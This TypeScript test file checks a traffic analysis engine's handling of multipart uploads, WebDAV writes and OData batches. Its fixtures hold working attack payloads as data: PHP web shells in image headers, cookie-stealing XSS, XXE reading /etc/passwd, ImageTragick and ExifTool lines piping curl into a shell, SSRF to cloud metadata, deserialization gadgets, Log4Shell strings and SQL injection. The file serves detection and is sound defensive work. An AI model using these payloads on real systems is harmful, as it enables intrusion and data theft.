import fc from 'fast-check';
import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { resolveLimits } from '@/runtime/analyzer/engine/limits';
import { viewRequest } from '@/runtime/analyzer/engine/message-view';
import { buildExchange } from '@/test/fixtures/traffic';

const limits = resolveLimits(undefined);

/** The parameters read from a one-part multipart body whose part headers are `disposition`. */
function fields(disposition: string, content = 'hello'): Array<[string, string]> {
  const view = viewRequest(
    buildExchange({
      method: 'POST',
      target: '/upload',
      requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
      requestBody: `--XX\r\n${disposition}\r\n\r\n${content}\r\n--XX--\r\n`,
    }),
    limits,
  );
  return view.bodyParams.map((p) => [p.name, p.value]);
}

/** The `classification@location` of every match an upload raises at `level`. */
function uploadMatches(level: 1 | 4) {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: level });
  return (file: string, type: string, content: string): string[] =>
    engine
      .analyze(
        buildExchange({
          method: 'POST',
          target: '/upload',
          requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
          requestBody: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XX--\r\n`,
        }),
        { sensorId: 's', sensorTags: [] },
      )
      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
      .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
}

describe('multipart part names, spelt as lenient parsers (PHP among them) accept them', () => {
  it.each([
    'Content-Disposition: form-data; name="q"',
    'Content-Disposition: form-data; name=q',
    "Content-Disposition: form-data; name='q'",
    'Content-Disposition: form-data;name="q"',
    'content-disposition: form-data; NAME = "q"',
    "Content-Disposition: form-data; name*=UTF-8''q",
  ])('reads the field of %s', (disposition) => {
    expect(fields(disposition)).toEqual([['q', 'hello']]);
  });

  it.each([
    ['Content-Disposition: form-data; name="f"; filename="shell.php"', 'shell.php'],
    ['Content-Disposition: form-data; name="f"; filename=shell.php', 'shell.php'],
    ['Content-Disposition: form-data; name="f"; filename=\'shell.php\'', 'shell.php'],
    ['Content-Disposition: form-data; name="f"; filename*=UTF-8\'\'sh%65ll.php', 'shell.php'],
    ['Content-Disposition: form-data; filename="shell.php"; name="f"', 'shell.php'],
  ])('reads %s as a file named %s, its contents as data', (disposition, name) => {
    expect(fields(disposition, '<?php echo 1; ?>')).toEqual([['f.filename', name]]);
  });

  it('reads both file names when a part gives filename and a different filename* (servers differ on which wins)', () => {
    expect(fields('Content-Disposition: form-data; name="f"; filename="invoice.pdf"; filename*=UTF-8\'\'%3Csvg%20onload%3Dalert(1)%3E.pdf')).toEqual([
      ['f.filename', 'invoice.pdf'],
      ['f.filename', '<svg onload=alert(1)>.pdf'],
    ]);
    expect(fields('Content-Disposition: form-data; name="f"; filename="a.pdf"; filename*=UTF-8\'\'a.pdf')).toEqual([['f.filename', 'a.pdf']]);
  });

  it('skips a part without a name, as servers do', () => {
    expect(fields('Content-Disposition: form-data; filename="a.txt"')).toEqual([]);
  });

  it('reads any part head without throwing', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'name=file*"\'; \tUTF-8%41q'.split('')), maxLength: 200 }), (head) => {
        expect(() => fields(`Content-Disposition: form-data; ${head}`)).not.toThrow();
      }),
      { numRuns: 500 },
    );
  });

  it('reads uploads of markup and code: script in an SVG or HTML file, an entity in XML, never a benign document', () => {
    const uploaded = uploadMatches(4);
    expect(
      uploaded('avatar.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x.example/?"+document.cookie)</script></svg>'),
    ).toContain('Xss@upload');
    expect(uploaded('page.htm', 'application/octet-stream', '<body onload="alert(document.domain)">')).toContain('Xss@upload');
    expect(uploaded('feed.xml', 'application/xml', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')).toContain('Xxe@upload');
    expect(
      uploaded(
        'logo.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><a href="https://example.com/"><rect width="8" height="8"/></a></svg>',
      ),
    ).toEqual([]);
    expect(
      uploaded('report.html', 'text/html', '<html><head><style>h1{color:red}</style></head><body><h1>Q3</h1><form action="/x"></form></body></html>'),
    ).toEqual([]);
    expect(uploaded('notes.txt', 'text/plain', '<script>alert(1)</script> is how XSS looks')).toEqual([]);
  });

  it('reads server-page code hidden in a file of any type, and flags uploads of server configuration files', () => {
    const uploaded = uploadMatches(1);
    expect(uploaded('photo.jpg', 'image/jpeg', 'GIF89a<?php system($_GET["c"]); ?>')).toContain('PhpInjection@upload');
    // A real image header's binary bytes before and after the code
    expect(uploaded('x.gif', 'image/gif', 'GIF89a\x01\x00\x01\x00\x80\x00\x00<?php system($_GET["c"]); ?>\x00\x01;')).toContain('PhpInjection@upload');
    // A text file about PHP is a document, not a disguised script
    expect(uploaded('wp-config.txt', 'text/plain', "<?php define('DB_NAME', 'x'); system('id'); ?>")).toEqual([]);
    expect(uploaded('a.png', 'image/png', '\x89PNG<% Runtime.getRuntime().exec(request.getParameter("c")); %>')).toContain('MaliciousUpload@upload');
    expect(uploaded('b.gif', 'image/gif', 'GIF89a<%eval request("x")%>')).toContain('MaliciousUpload@upload');
    expect(uploaded('web.config', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
    expect(uploaded('.user.ini', 'text/plain', 'auto_prepend_file=a.jpg')).toContain('MaliciousUpload@multipart_filename');
    expect(uploaded('web.config.', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
    expect(uploaded('web.config::$DATA', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
    expect(uploaded('photo.jpg', 'image/jpeg', 'JFIF\x00\x10<%\x01\x02 binary %> data')).toEqual([]);
    // An image that is also a script, and a real GIF whose width byte is `=`
    expect(uploaded('me.gif', 'image/gif', 'GIF89a=alert(document.domain)//')).toContain('MaliciousUpload@upload');
    expect(uploaded('me.gif', 'image/gif', 'GIF89a/*\xff\xff*/=1;fetch("//x.example/"+document.cookie)//')).toContain('MaliciousUpload@upload');
    expect(uploaded('pixel.gif', 'image/gif', 'GIF89a=\x00\x10\x00\xf7\x00\x00\x00\x00\x00,\x00\x00\x00\x00=\x00\x10\x00\x00\x08\xfe\x00;')).toEqual([]);
    // A document that opens as XML, whatever it is called (an XML spreadsheet named .xls)
    expect(
      uploaded('contacts.xls', 'application/vnd.ms-excel', '<?xml version="1.0"?><!DOCTYPE W [<!ENTITY % e SYSTEM "http://203.0.113.9/x.dtd"> %e;]><W/>'),
    ).toContain('Xxe@upload');
    expect(uploaded('contacts.xls', 'application/vnd.ms-excel', '<?xml version="1.0"?><Workbook><Row>1</Row></Workbook>')).toEqual([]);
    expect(uploaded('template.ejs', 'text/plain', '<p><%= user.name %></p>')).toEqual([]);
    // YAML a loader builds objects from: its tags are read, its ordinary settings left alone
    expect(uploaded('settings.yaml', 'application/octet-stream', '!!python/object/apply:subprocess.Popen\n- [id]\n')).toContain('Deserialization@upload');
    expect(uploaded('settings.yml', 'application/x-yaml', 'theme: dark\nlanguage: en\nitems:\n  - a\n  - b\n')).toEqual([]);
    // XML a media file carries, read by a metadata parser (a WAV's iXML chunk)
    expect(
      uploaded(
        'payload.wav',
        'audio/wav',
        'RIFF\x10\x00\x00\x00WAVEiXML\x80\x00\x00\x00<?xml version="1.0"?><!DOCTYPE ixml [<!ENTITY % x SYSTEM "http://203.0.113.9/e.dtd"> %x;]><ixml/>\x00\x01',
      ),
    ).toContain('Xxe@upload');
    expect(uploaded('song.wav', 'audio/wav', 'RIFF\x10\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x02\x00')).toEqual([]);
    // Calendars and contacts an import stores and shows again
    expect(
      uploaded('invite.ics', 'text/calendar', 'BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:<script>alert(document.cookie)</script>\nEND:VEVENT\nEND:VCALENDAR'),
    ).toContain('Xss@upload');
    expect(uploaded('team.ics', 'text/calendar', 'BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:Q3 planning (room 4 <-> 5)\nEND:VEVENT\nEND:VCALENDAR')).toEqual([]);
  });
});

describe('image-converter exploits in uploads (ImageTragick, Ghostscript)', () => {
  const uploaded = uploadMatches(1);

  it('reads drawing commands or PostScript posing as an image, and an SVG, for a delegate pipe or a file coder', () => {
    const mvg = (line: string): string => `push graphic-context\nviewbox 0 0 640 480\n${line}\npop graphic-context`;
    expect(uploaded('poster.jpg', 'image/jpeg', mvg(`fill 'url(https://example.com/a.jpg"|curl -s "http://203.0.113.66/im.sh|sh)'`))).toContain(
      'MaliciousUpload@upload',
    );
    expect(uploaded('x.png', 'image/png', mvg("image over 0,0 0,0 'ephemeral:/var/www/html/index.php'"))).toContain('MaliciousUpload@upload');
    expect(uploaded('x.png', 'image/png', mvg("image over 0,0 0,0 'text:/etc/passwd'"))).toContain('MaliciousUpload@upload');
    const eps = '%!PS\nuserdict /setpagedevice undef\nsave\nmark /OutputFile (%pipe%id > /tmp/x) currentdevice putdeviceprops';
    expect(uploaded('scan.jpg', 'image/jpeg', eps)).toContain('MaliciousUpload@upload');
    const svg =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://example.com/a.jpg&quot;|id; &quot;" width="1" height="1"/></svg>';
    expect(uploaded('avatar.svg', 'image/svg+xml', svg)).toContain('MaliciousUpload@upload');
  });

  it('leaves ordinary drawings, PostScript and SVG images alone', () => {
    expect(uploaded('chart.mvg', 'image/x-mvg', 'push graphic-context\nviewbox 0 0 100 100\nfill red\ncircle 50,50 20,20\npop graphic-context')).toEqual([]);
    expect(
      uploaded('doc.eps', 'application/postscript', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 10 10 moveto 90 90 lineto stroke\nshowpage'),
    ).toEqual([]);
    const svg =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://cdn.example.com/a.png" width="1" height="1"/><text>a | b</text></svg>';
    expect(uploaded('logo.svg', 'image/svg+xml', svg)).toEqual([]);
  });

  it("reads a DjVu file's metadata annotation that ExifTool would evaluate as Perl, whatever the file is called, and not one that only names things", () => {
    const djvu = (annotation: string) => `AT&TFORM\x00\x00\x00tDJVUINFO\x00\x00\x00\x0a\x00\x01\x00\x01\x18\x00d\x16\x01\x00ANTa\x00\x00\x00V${annotation}`;
    expect(uploaded('test.jpg', 'image/jpeg', djvu('(metadata\n\t(Copyright "\\\n" . qx{curl -s http://203.0.113.45/g.sh | bash} . \\\n" b ") )\n'))).toContain(
      'MaliciousUpload@upload',
    );
    // ... also with the line break written CRLF
    expect(uploaded('test.jpg', 'image/jpeg', djvu('(metadata (Copyright "\\\r\n" . qx{id} . \\\r\n" b ") )'))).toContain('MaliciousUpload@upload');
    expect(uploaded('scan.djvu', 'image/vnd.djvu', djvu('(metadata\n\t(Author "Ann Lee")\n\t(Title "Scan 3, p. 1")\n)\n'))).toEqual([]);
  });
});

describe('uploads that make the converter fetch (SSRF and local files through SVG, MVG and HLS)', () => {
  const uploaded = uploadMatches(1);
  const svg = (href: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">\n  <image xlink:href="${href}" width="400" height="400"/>\n</svg>`;
  const mvg = (line: string): string => `push graphic-context\nviewbox 0 0 640 480\n${line}\npop graphic-context`;
  const playlist = (entry: string): string => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${entry}\n#EXT-X-ENDLIST`;

  it('reads the URLs an SVG image, an MVG fill or a playlist entry fetches, whatever the file is named', () => {
    expect(uploaded('logo.svg', 'image/svg+xml', svg('http://169.254.169.254/latest/meta-data/iam/security-credentials/'))).toContain('Ssrf@upload');
    expect(uploaded('logo.svg', 'image/svg+xml', svg('http://0xa9fea9fe/latest/meta-data/'))).toContain('Ssrf@upload');
    expect(uploaded('me.jpg', 'image/jpeg', mvg(`fill 'url(http://127.0.0.1:8080/manager/html")'`))).toContain('Ssrf@upload');
    expect(uploaded('clip.avi', 'video/x-msvideo', playlist('concat:http://203.0.113.77/header.m3u8|file:///etc/passwd'))).toContain('Ssrf@upload');
    expect(uploaded('clip.mp4', 'video/mp4', playlist('http://10.0.0.12:9200/_cat/indices'))).toContain('Ssrf@upload');
    expect(uploaded('map.svg', 'image/svg+xml', svg('file:///C:/Windows/win.ini'))).toContain('Ssrf@upload');
  });

  it('leaves public URLs, namespaces, links in text and drawings linked to a file of their own alone', () => {
    expect(uploaded('logo.svg', 'image/svg+xml', svg('https://cdn.example.com/a.png'))).toEqual([]);
    expect(uploaded('logo.svg', 'image/svg+xml', svg('file:///home/anna/Pictures/texture.png'))).toEqual([]);
    const notes = '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">router admin: http://192.168.1.1/ (metadata at 169.254.169.254)</text></svg>';
    expect(uploaded('diagram.svg', 'image/svg+xml', notes)).toEqual([]);
    expect(uploaded('live.m3u8', 'application/vnd.apple.mpegurl', playlist('https://media.example.com/seg-001.ts'))).toEqual([]);
  });
});

describe('files written by HTTP itself (PUT, and WebDAV MOVE or COPY)', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  let n = 0;
  const ids = (method: string, target: string, headers: Array<[string, string]> = [], body?: string): number[] =>
    engine
      .analyze(buildExchange({ id: `w${n++}`, method, target, requestHeaders: headers, requestBody: body }), { sensorId: 's', sensorTags: [] })
      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
      .flatMap((e) => e.matches.map((m) => m.id));

  it('reads a server-executable or configuration name written by PUT or named by Destination', () => {
    expect(ids('PUT', '/webdav/DavTestDir/davtest.php', [], 'hello')).toContain(970104);
    expect(ids('PUT', '/uploads/x.asp/logo.jpg', [], 'hello')).toContain(970104);
    expect(ids('MOVE', '/dav/incoming/upd.txt', [['Destination', 'http://198.51.100.200/dav/incoming/upd.aspx.']])).toContain(970104);
    expect(ids('COPY', '/webdav/a.txt', [['Destination', '/webdav/a.asp;.txt']])).toContain(970104);
    expect(ids('MOVE', '/dav/a.txt', [['Destination', '/dav/web.config']])).toContain(970104);
  });

  it('leaves ordinary writes and renames alone', () => {
    expect(ids('PUT', '/api/users/7', [['Content-Type', 'application/json']], '{"name":"Ann"}')).toEqual([]);
    expect(ids('PUT', '/remote.php/dav/files/ann/Photos/beach.jpg', [], 'x')).toEqual([]);
    expect(ids('MOVE', '/dav/notes.txt', [['Destination', 'https://files.example.com/dav/archive/notes-2024.txt']])).toEqual([]);
  });
});

describe('batches and related parts (multipart/mixed, multipart/related): parts no form field names', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  let n = 0;
  const post = (type: string, body: string) =>
    buildExchange({ id: `b${n++}`, method: 'POST', target: '/odata/$batch', requestHeaders: [['Content-Type', type]], requestBody: body });
  const params = (type: string, body: string): Array<[string, string, string]> =>
    viewRequest(post(type, body), limits).bodyParams.map((p) => [p.name, p.location, p.value]);
  const matches = (type: string, body: string): string[] =>
    engine
      .analyze(post(type, body), { sensorId: 's', sensorTags: [] })
      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
      .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.parameter}`));
  const request = (line: string, headers = '', body = '') =>
    `Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n${line}\r\n${headers}\r\n${body}\r\n`;
  const batch = (...parts: string[]) => `--b\r\n${parts.join('--b\r\n')}--b--\r\n`;
  const changeset = (...parts: string[]) => `Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n${parts.join('--c\r\n')}--c--\r\n`;

  it("reads an embedded request's target, its query as parameters and its JSON body, also inside a changeset", () => {
    const body = batch(
      request("GET Orders?$filter=ShipName%20eq%20'x'&$top=5 HTTP/1.1", 'Accept: application/json\r\n'),
      changeset(request('POST NoteSet HTTP/1.1', 'Content-Type: application/json\r\n', '{"Title":"Follow-up","Tags":["a"]}')),
    );
    expect(params('multipart/mixed; boundary=b', body)).toEqual([
      ['[1] target', 'body_multipart', 'Orders'],
      ['[1].$filter', 'body_multipart', "ShipName eq 'x'"],
      ['[1].$top', 'body_multipart', '5'],
      ['[2].[1] target', 'body_multipart', 'NoteSet'],
      ['[2].[1].Title', 'body_json', 'Follow-up'],
      ['[2].[1].Tags[]', 'body_json', 'a'],
    ]);
  });

  it('finds injections in a batch as in the requests it carries, and leaves an OData filter comparing a literal alone', () => {
    const sqli = request("GET Orders?$filter=ShipName%20eq%20'x'%20or%20'a'%3D'a';DROP%20TABLE%20AuditLog;--' HTTP/1.1");
    expect(matches('multipart/mixed; boundary=b', batch(sqli))).toContain('SqlInjection@[1].$filter');
    const traversal = request('GET /files/v1/files/..%2f..%2f..%2f..%2fetc%2fshadow?alt=media HTTP/1.1');
    expect(matches('multipart/mixed; boundary=b', batch(traversal))).toContain('PathTraversal@[1] target');
    const xss = changeset(
      request('POST NoteSet HTTP/1.1', 'Content-Type: application/json\r\n', '{"Text":"<iframe srcdoc=\\"<script>alert(1)</script>\\"></iframe>"}'),
    );
    expect(matches('multipart/mixed; boundary=b', batch(xss))).toContain('Xss@[1].[1].Text');
    const fiori = batch(request('GET C_SalesOrderManage?$skip=0&$top=25&$filter=(SalesOrderType%20eq%20%27OR%27) HTTP/1.1'));
    expect(matches('multipart/mixed; boundary=b', fiori)).toEqual([]);
  });

  it("reads an MTOM message's XML part as XML values, and a file part as an upload, not as text", () => {
    const envelope = (href: string) =>
      `Content-Type: application/xop+xml; type="text/xml"\r\n\r\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Store><folder>\\\\fs01\\permits\\Q4</folder><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="${href}"/></Store></soap:Body></soap:Envelope>\r\n`;
    const type = 'multipart/related; type="application/xop+xml"; boundary=b';
    expect(matches(type, batch(envelope('file:///etc/passwd')))).toEqual(expect.arrayContaining(['PathTraversal@[1].xop:Include@href']));
    expect(matches(type, batch(envelope('cid:578cebc1@cxf.apache.org'), 'Content-Type: text/markdown\r\n\r\n# Notes\r\n- `<Select>` fix\r\n'))).toEqual([]);
    const drive = batch('Content-Type: application/json\r\n\r\n{"name":"a.md"}\r\n', 'Content-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n');
    expect(params('multipart/related; boundary=b', drive)).toEqual([['[1].name', 'body_json', 'a.md']]);
    expect(viewRequest(post('multipart/related; boundary=b', drive), limits).uploads.map((u) => u.filename)).toEqual(['[2]']);
  });

  it('reads nested parts to a bounded depth, and a response-style or broken part as nothing', () => {
    let nested = request('GET Orders?$filter=x%27%20or%201%3D1-- HTTP/1.1');
    for (let i = 0; i < 6; i++) nested = `Content-Type: multipart/mixed; boundary=n${i}\r\n\r\n--n${i}\r\n${nested}--n${i}--\r\n`;
    expect(params('multipart/mixed; boundary=b', batch(nested))).toEqual([]);
    expect(params('multipart/mixed; boundary=b', batch('Content-Type: application/http\r\n\r\n\r\n'))).toEqual([]);
  });
});

describe('batch bodies of any shape', () => {
  it('are read in bounded time into at most MAX_PARAMETERS values', () => {
    const part = fc.oneof(
      fc.constant('Content-Type: application/http\r\n\r\nGET /a?x=1&y=2 HTTP/1.1\r\n\r\n'),
      fc.constant('Content-Type: application/json\r\n\r\n{"a":["b","c"]}'),
      fc.constant('Content-Type: multipart/mixed; boundary=b\r\n\r\n'),
      fc.string({ maxLength: 40 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), fc.integer({ min: 0, max: 12 }), (parts, depth) => {
        // Each level nests the one inside under a boundary of its own, the outermost being `b`.
        const boundary = (level: number) => (level === depth ? 'b' : `n${level}`);
        let body = parts.map((p) => `--${boundary(0)}\r\n${p}\r\n`).join('') + `--${boundary(0)}--\r\n`;
        for (let level = 1; level <= depth; level++)
          body = `--${boundary(level)}\r\nContent-Type: multipart/mixed; boundary=${boundary(level - 1)}\r\n\r\n${body}\r\n--${boundary(level)}--\r\n`;
        const view = viewRequest(
          buildExchange({ method: 'POST', target: '/$batch', requestHeaders: [['Content-Type', 'multipart/mixed; boundary=b']], requestBody: body }),
          limits,
        );
        expect(view.bodyParams.length).toBeLessThanOrEqual(8192);
      }),
      { numRuns: 200 },
    );
  });
});

describe('file parts that are serialized object streams, and part types that are no media type', () => {
  /** The `classification@location` of every match of a one-file multipart body at level 1; the file's bytes given as latin1. */
  function fileMatches(head: string, bytes: string): string[] {
    const body = Buffer.concat([
      Buffer.from(`--XX\r\nContent-Disposition: form-data; name="f"; filename="upload.bin"\r\n${head}\r\n\r\n`),
      Buffer.from(bytes, 'latin1'),
      Buffer.from('\r\n--XX--\r\n'),
    ]);
    return createAnalysisEngine({ catalog: false, detectionLevel: 1 })
      .analyze(
        buildExchange({ method: 'POST', target: '/import', requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']], requestBody: body }),
        { sensorId: 's', sensorTags: [] },
      )
      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
      .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
  }
  const octets = 'Content-Type: application/octet-stream';

  it.each([
    [
      'a pickled model that imports posix.system',
      '\x80\x04\x95\x2a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
      'Deserialization',
    ],
    [
      'a Java object stream naming a gadget class',
      '\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03',
      'JavaInjection',
    ],
    [
      'a PHP serialize() object with protected members',
      'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}}',
      'PhpInjection',
    ],
  ])('reads %s uploaded as a file', (_what, bytes, classification) => {
    expect(fileMatches(octets, bytes)).toContain(`${classification}@upload`);
  });

  it.each([
    [
      'a pickled scikit-learn model',
      '\x80\x04\x95\x40\x00\x00\x00\x00\x00\x00\x00\x8c\x14sklearn.linear_model\x94\x8c\x12LogisticRegression\x94\x93\x94)\x81\x94.',
    ],
    ['a PNG image', '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00'],
    ['a file of NUL and 0xff bytes', '\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00'],
  ])('leaves %s alone', (_what, bytes) => {
    expect(fileMatches(octets, bytes)).toEqual([]);
  });

  it("reads a part's Content-Type that is no media type as a value, and leaves media types with parameters out of the values", () => {
    expect(fileMatches('Content-Type: ${jndi:ldap://x.example/a}', 'notes')).toContain('Log4Shell@body_multipart');
    expect(fields('Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset="utf-8"')).toEqual([['q', 'hello']]);
    expect(fields('Content-Disposition: form-data; name="q"\r\nContent-Type: ${jndi:ldap://x.example/a}')).toEqual([
      ['q (Content-Type)', '${jndi:ldap://x.example/a}'],
      ['q', 'hello'],
    ]);
  });
});

describe("Blobs a script appended to a form without a file name (the browser names them 'blob')", () => {
  it('reads a text or JSON Blob as a field as well, and leaves other files to the uploads', () => {
    const blob = 'Content-Disposition: form-data; name="k0"; filename="blob"';
    expect(fields(`${blob}\r\nContent-Type: text/plain`, "x' UNION SELECT 1 --")).toContainEqual(['k0', "x' UNION SELECT 1 --"]);
    expect(fields(blob, 'plain')).toContainEqual(['k0', 'plain']);
    expect(fields(`${blob}\r\nContent-Type: image/png`, 'plain')).not.toContainEqual(['k0', 'plain']);
    expect(fields('Content-Disposition: form-data; name="k0"; filename="notes.txt"\r\nContent-Type: text/plain', 'plain')).not.toContainEqual(['k0', 'plain']);
  });

  it('alerts on an injection sent so (Appsmith query parameters)', () => {
    expect(uploadMatches(1)('blob', 'text/plain', "x' UNION SELECT id, email, password_hash, NULL FROM app_users --")).toContain('SqlInjection@body_multipart');
  });
});
